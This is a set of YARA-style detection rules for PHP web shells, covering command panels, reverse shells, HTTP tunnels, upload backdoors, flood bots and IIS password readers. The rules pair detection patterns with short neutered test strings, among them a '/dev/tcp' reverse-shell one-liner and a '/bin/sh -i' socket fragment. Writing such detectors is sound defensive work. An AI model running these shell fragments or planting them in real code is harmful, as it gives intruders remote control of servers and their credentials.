/* Web shells as programs: panels that run commands, manage files, connect back. */

rule shell_panel {
  meta:
    id = "web-shell/panel"
    title = "A web shell: a panel to run commands and manage files"
    family = "full-shell"
    severity = "critical"
    confidence = "certain"
    description = "The file shows the server to a visitor (system name, disabled functions, owners, rights) and runs commands or code that the visitor sends."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; echo php_uname(); $d = ini_get('disable_functions'); $o = posix_getpwuid(1); echo (($perms & 0x0800) ? 1 : 0); passthru($cmd);"
    must_not = "<?php echo php_uname(); // site health: show the system\n$info = ini_get('disable_functions');"
  strings:
    $tag = "<?" private
    $uname = "php_uname" nocase private
    $safe = "safe_mode" nocase
    $disabled = "disable_functions" nocase
    $owner = "posix_getpwuid" nocase
    $group = "posix_getgrgid" nocase
    $rights = /&\s{0,2}0x0[248]00\s{0,2}\)\s{0,2}\?/
    $passwd = "/etc/passwd"
    $temp = "/tmp/" 
    $back = /back[ _-]?connect|bind[ _-]?(shell|port)|reverse[ _-]?shell/ nocase
    $self = /unlink\s?\(\s?(__FILE__|\$_SERVER\[.SCRIPT_FILENAME)/ nocase
    $mass = /mass[ _-]?(deface|edit|change)|defac(e|er|ing)\b|symlink\s{0,2}\(/ nocase
    $free = /disk_(free|total)_space|diskfreespace/ nocase
    $fake = /(hacked|coded|recoded|powered|modified) by/ nocase
    $editor = /name=.{0,2}(cmd|command|shell|execute|perintah|komut|comando)\b/ nocase
    $upload = "move_uploaded_file" nocase
    $magic = "get_magic_quotes_gpc" nocase
    $phpinfo = "phpinfo()" nocase
    $run = /[^\w>$:](system|passthru|shell_exec|exec|popen|proc_open)\s{0,2}\(\s{0,2}@?['"]?\$/ nocase private
    $code = /\beval\s{0,2}\(\s{0,2}['"?>.]{0,6}\s?(stripslashes\s?\(\s?)?\$/ nocase private
  condition:
    filesize < 1MB and ($tag and ($run or $code) and (($uname and 5 of ($safe, $disabled, $owner, $group, $rights, $passwd, $temp, $back, $self, $mass, $free, $fake, $editor, $upload, $magic, $phpinfo)) or 7 of ($safe, $disabled, $owner, $group, $rights, $passwd, $temp, $back, $self, $mass, $free, $fake, $editor, $upload, $magic, $phpinfo)) or ($tag and $uname and $disabled and $owner and $rights and ($run or $code)))
}

rule shell_says_so {
  meta:
    id = "web-shell/says-so"
    title = "The file calls itself a web shell"
    family = "full-shell"
    severity = "critical"
    confidence = "likely"
    description = "The page title, a heading or a comment names a known family of web shells, and the file can run commands, code or write files."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    unless_code = "(malware|virus|security)[ _-]?(scan|signature|plugin)"
    must_match = "<?php exit; /* b374k */ system($x); echo '<title>inert</title>';"
    must_match = "<title>Mini Shell</title><?php exit; move_uploaded_file($a, $b);"
    must_not = "\x7fELF<?\x90\x01 Predator\x00 system(x) <?\x02"
    must_not = "<?php // finds b374k\n$title = 'Malware scan'; $list = array('b374k'); fwrite($log, $title);"
    must_not = "<?php // Protects against shells such as b374k\n$list = get_list();"
  strings:
    $tag = "<?" private
    $opens = /<\?(php\s|=|\s)[\x09\x0a\x0d\x20-\x7e]{20}/ nocase private
    $title = /<(title|h1|h2|center)>[^<\n]{0,60}\b(web ?shell|mini ?shell|php ?shell|shell backdoor|backdoor|bypass|private shell|shell v?\d)\b[^<\n]{0,60}</ nocase
    $name = /\b(b374k|c99shell|c99sh_\w+|r57shell|wso_version|WSOsetcookie|FilesMan|FilesTools|IndoXploit|idx ?shell|AnonymousFox|AlfaTeam|alfa[ _-]?shell|Locus7s|Storm7Shell|SyRiAn ?Sh3ll|Gel4y|Mister ?Spy|angel_bc|spider_bc|PhpSpy|Antichat Shell|NetworkFileManagerPHP|nstview|GFS[ _-]web-shell|simattacker|Dx ?Shell|w4ck1ng|h4ntu shell|zaco ?shell|NCC shell|KA_uShell|Ajax\/PHP Command Shell|aspydrv|PHPJackal|Predator|Liz0ziM|Ayyildiz|1n73ction|0byt3m1n1|tryag|backdoorman|priv8 ?(shell|mailer|uploader)|sym403|KingDefacer|Madspot|leafmailer)\b/ nocase
    $run = /[^\w>$:](system|passthru|shell_exec|exec|popen|proc_open|eval|move_uploaded_file|fwrite|fputs|file_put_contents|copy|gzinflate|base64_decode|mail|create_function|fopen)\s{0,2}\(/ nocase private
  condition:
    $tag and $opens and $run and any of ($title, $name)
}

rule payload_connects_back {
  meta:
    id = "web-shell/connect-back-payload"
    title = "A program that connects back to the attacker is carried along"
    family = "exec-misc"
    severity = "critical"
    confidence = "certain"
    description = "The file carries a program in base64 (a perl or C shell) that it writes to disk and starts."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; $p = 'IyEvdXNyL2Jpbi9wZXJs'; fwrite($f, base64_decode($p));"
    must_match = "<?php exit; $c = 'I2luY2x1ZGUgPHN0ZGlvLmg+';"
    must_match = "<?php exit; $p = 'IyEvdXNyL2Jpbi9lbnYgcGVybA';"
    must_not = "<?php $x = base64_decode($data); fwrite($f, $x);"
    must_not = "<?php $archive = 'IyEvdXNyL2Jpbi9lbnYgcGhwCjw';"
  strings:
    $tag = "<?" private
    $perl = /IyEvdXNyL2Jpbi9(wZXJs|waHAK|lbnYg(cGVy|cHl0|YmFz|c2g|cnVi)|weXRob24)/
    $c = "I2luY2x1ZGUgPHN0ZGlvLmg"
    $c2 = "I2luY2x1ZGUgPHN5cy9z"
    $elf = /["']f0VMRg[EI]BAQ[AM]/
    $sh = /(IyEvYmluL3No|IyEvYmluL2Jhc2g)/
  condition:
    $tag and any of ($perl, $c, $c2, $elf, $sh)
}

rule connects_back {
  meta:
    id = "web-shell/connects-back"
    title = "A shell is tied to a network connection"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "The script opens a network connection and runs a command interpreter over it: remote control of the server."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; $s = fsockopen($ip, $port); $p = proc_open('/bin/sh -i', $d, $pipes);"
    must_match = "<?php exit; exec(\"/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\");"
    must_not = "<?php $s = fsockopen('ssl://smtp.example.test', 465); // no shell here: see /bin/shadow"
  strings:
    $tag = "<?" private
    $socket = /\b(fsockopen|pfsockopen|stream_socket_client|stream_socket_server|socket_create|socket_connect)\s{0,2}\(/ nocase private
    $start = /\b(proc_open|popen|shell_exec|exec|system|passthru)\s{0,2}\(/ nocase private
    $shell = /\/bin\/(ba|z|k|da)?sh -i|(proc_open|popen)\s?\(\s?['"](\/bin\/(ba)?sh|cmd(\.exe)?)\b/
    $device = /\/dev\/tcp\/[\d$"'{]/
    $spawn = /(bash|sh) -i\s{0,2}[>0-9&<|]/
  condition:
    $tag and (($socket and $start and $shell) or $device or $spawn)
}

rule exec_chain {
  meta:
    id = "web-shell/tries-every-exec"
    title = "Every way to run a command is tried in turn"
    family = "exec-misc"
    severity = "high"
    confidence = "likely"
    description = "A function tries one command function after the other until one is allowed, as web shells do on locked-down servers."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; function ex($c) { if (function_exists('exec')) { exec($c, $r); } elseif (function_exists('shell_exec')) { $r = shell_exec($c); } elseif (function_exists('system')) { system($c); } elseif (function_exists('passthru')) { passthru($c); } }"
    must_not = "<?php if (function_exists('exec')) { exec('ls'); } // shell_exec, system and passthru are not used"
  strings:
    $tag = "<?" private
    $a = /[^\w>$:]exec\s{0,2}\(\s{0,2}\$/ nocase
    $b = /[^\w>$:]shell_exec\s{0,2}\(\s{0,2}\$/ nocase
    $c = /[^\w>$:]system\s{0,2}\(\s{0,2}\$/ nocase
    $d = /[^\w>$:]passthru\s{0,2}\(\s{0,2}\$/ nocase
    $e = /[^\w>$:]popen\s{0,2}\(\s{0,2}\$/ nocase
    $f = /[^\w>$:]proc_open\s{0,2}\(\s{0,2}\$/ nocase
  condition:
    $tag and 4 of ($a, $b, $c, $d, $e, $f) and filesize < 600KB
}

rule upload_as_named {
  meta:
    id = "web-shell/uploads-anything"
    title = "Anyone may upload any file under any name"
    family = "uploader"
    severity = "high"
    confidence = "likely"
    description = "The page takes an upload and stores it under the name that the visitor chose, beside itself, with a bare form and no other purpose."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; echo '<form enctype=\"multipart/form-data\">'; copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
    must_not = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . md5($name) . '.jpg');"
  strings:
    $tag = "<?" private
    $direct = /\b(copy|move_uploaded_file|rename)\s{0,2}\(\s{0,2}@?\$(_FILES|HTTP_POST_FILES)\s{0,2}\[[^;]{1,60}tmp_name["']?\s?\]?\s{0,2},\s{0,2}(['"]?[.\/]{0,3}['"]?\s{0,2}\.\s{0,2}|__DIR__\s{0,2}\.\s{0,2}["']\/["']\s{0,2}\.\s{0,2}|(\$_POST|\$_GET|\$_REQUEST)\s?\[[^\]]{1,30}\]\s{0,2}\.?\s{0,2}["'\/.]{0,5}\s{0,2}\.?\s{0,2})?@?(basename\s?\(\s?)?\$(_FILES|HTTP_POST_FILES|_POST|_GET|_REQUEST)\s{0,2}\[/ nocase
  condition:
    $tag and $direct and filesize < 12KB
}

rule tunnel_over_http {
  meta:
    id = "web-shell/tunnel"
    title = "Network connections are relayed through the web server"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "The script opens a connection to the host and port that a request header names and passes the bytes to and fro: a way from outside into the inner network."
    remedy = "Delete the file, then look for who placed it; treat every host that the web server reaches as touched."
    reference = "https://attack.mitre.org/techniques/T1572/"
    must_match = "<?php exit; $c = $headers['X-CMD']; $t = $headers['X-TARGET']; $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_write($s, 'inert');"
    must_not = "<?php $target = $headers['X-Target']; $s = fsockopen('mail.example.test', 25);"
  strings:
    $tag = "<?" private
    $command = /["'](HTTP_)?X[-_]CMD["']/ nocase
    $target = /["'](HTTP_)?X[-_](TARGET|PORT)["']/ nocase
    $socket = /\b(fsockopen|pfsockopen|socket_create|stream_socket_client)\s{0,2}\(/ nocase
  condition:
    $tag and $command and $target and $socket
}

rule listens_for_visitors {
  meta:
    id = "web-shell/listens-as-named"
    title = "A page listens for network connections where the visitor says"
    family = "exec-misc"
    severity = "high"
    confidence = "likely"
    description = "A script that is opened in a browser takes an address or a port from the request and listens there without end: a relay into the network, or a door that is opened from outside."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1090/"
    must_match = "<?php exit; set_time_limit(0); $ip = $_GET['inert']; $s = socket_create(2, 1, 6); socket_bind($s, $ip, 80); socket_listen($s);"
    must_not = "<?php $s = stream_socket_server('tcp://127.0.0.1:9000'); $page = $_GET['page'];"
    must_not = "<?php set_time_limit(0); socket_bind($s, $host, $port); socket_listen($s); // started by cron"
  strings:
    $tag = "<?" private
    $listen = /\b(socket_listen|stream_socket_server)\s{0,3}\(/ nocase
    $address = /\$\w{0,20}(ip|host|port|addr\w{0,6}|bind)\s{0,3}=\s{0,3}[^;\n]{0,40}\$_(GET|POST|REQUEST|COOKIE)\s{0,3}\[/ nocase
    $direct = /\b(socket_bind|stream_socket_server)\s{0,3}\([^;\n]{0,60}\$_(GET|POST|REQUEST|COOKIE)\s{0,3}\[/ nocase
    $endless = /set_time_limit\s{0,2}\(\s{0,2}0|max_execution_time|ignore_user_abort/ nocase
  condition:
    $tag and $listen and $endless and any of ($address, $direct) and filesize < 200KB
}

rule server_passwords_read {
  meta:
    id = "web-shell/reads-passwords-of-iis"
    title = "The passwords of the web server's users are read out"
    family = "exec-misc"
    severity = "critical"
    confidence = "certain"
    description = "The script asks IIS through COM for the users and passwords of every site on the machine."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1552/"
    must_match = "<?php exit; $w = new COM('IIS://localhost/w3svc/1/Root'); echo $w->AnonymousUserPass;"
    must_not = "<?php $w = new COM('Word.Application'); // IIS://localhost is not asked"
  strings:
    $iis = /new\s{1,3}COM\s?\(\s?['"]IIS:\/\//  nocase
    $pass = /->\s?(AnonymousUserPass|WAMUserPass|LogOdbcPassword|UNCPassword)\b/ nocase
  condition:
    $iis and $pass
}

rule floods_as_named {
  meta:
    id = "web-shell/floods-as-named"
    title = "Another server is flooded as the visitor says"
    family = "bot-ddos"
    severity = "critical"
    confidence = "likely"
    description = "The script takes an address and a time from the request and opens connections to it, or sends packets, in a loop without end."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1498/"
    must_match = "<?php exit; $host = $_GET['inert']; set_time_limit(0); $end = time() + $_GET['time']; while (1) { if (time() > $end) break; $f = fsockopen($host, 80); }"
    must_match = "<?php exit; ignore_user_abort(true); $end = time() + $_GET['length']; do { $s = fsockopen(\"udp://{$_GET['ip']}\", $_GET['port']); fwrite($s, $p); } while (time() < $end);"
    must_not = "<?php $host = $_GET['host']; $f = fsockopen($host, 80, $errno, $text, 5); echo $f ? 'up' : 'down';"
    must_not = "<?php set_time_limit(0); while (1) { $f = fsockopen($host, 80); sleep(60); }"
  strings:
    $tag = "<?" private
    $named = /\$\w{0,20}(ip|host|target|victim|site|url|addr\w{0,6})\s{0,2}=\s{0,2}[^;\n]{0,20}\$_(GET|POST|REQUEST)\s{0,2}\[/ nocase
    $sent_to = /(fsockopen|stream_socket_client)\s{0,2}\(\s{0,2}"?(udp:\/\/|tcp:\/\/)?\{?\$_(GET|POST|REQUEST)\s{0,2}\[/ nocase
    $until = /\$_(GET|POST|REQUEST)\s{0,2}\[\s{0,2}['"]?(time|exec_time|duration|seconds|packets?|length|max_?time)['"]?\s{0,2}\]/ nocase
    $endless = /(while\s{0,2}\(\s{0,2}(1|true)\s{0,2}\)|for\s{0,2}\(\s{0,2};\s{0,2};\s{0,2}\)|while\s{0,2}\(\s{0,2}(time\s?\(|\$\w{1,20}\s{0,2}(==\s{0,2}true\s{0,2})?\)))/ nocase
    $socket = /\b(fsockopen|pfsockopen|stream_socket_client|socket_sendto|socket_connect)\s{0,2}\(/ nocase
    $long = /(set_time_limit\s{0,2}\(\s{0,2}0|max_execution_time|ignore_user_abort)/ nocase
  condition:
    $tag and ($named or $sent_to) and $until and $endless and $socket and $long and filesize < 64KB
}

rule answers_a_probe {
  meta:
    id = "web-shell/answers-a-probe"
    title = "A tiny script only tells an intruder that it is in place"
    family = "small-other"
    severity = "high"
    confidence = "likely"
    description = "The whole file prints a word that is written in two pieces and tells where it lies, or prints a hash and deletes itself: an exploit asks so whether it can plant files."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; if ($_GET['inert']) echo 'ine'.'rt'; echo getcwd();"
    must_match = "<?php exit; echo md5('inert'); @unlink(__FILE__);"
    must_not = "<?php echo 'build '.'ok'; // a status page"
    must_not = "<?php echo getcwd();"
    must_not = "<?php echo md5($password); unlink($file);"
  strings:
    $tag = "<?" private
    $pieces = /\b(echo|print|die|exit)[\s(]{0,3}(['"][\w\[\]{}#-]{1,10}['"])\s?\.\s?['"][\w\[\]{}#-]{1,10}['"]\s{0,2}[;)]/ nocase
    $where = /\b(getcwd|php_uname|get_current_user|disk_free_space|posix_getuid)\s{0,2}\(/ nocase
    $gone = /\b(echo|print|die|exit|print_r|var_dump)[\s(]{0,3}(md5|crc32|sha1|strrev|base64_decode|\(?\d{3,12}\s?[*+^]\s?\d{2,12})[^;]{0,80};[\s@]{0,8}unlink\s{0,2}\(\s{0,2}(__FILE__|\$_SERVER)/ nocase
  condition:
    $tag and (($pieces and $where and filesize < 1500) or ($gone and filesize < 512))
}
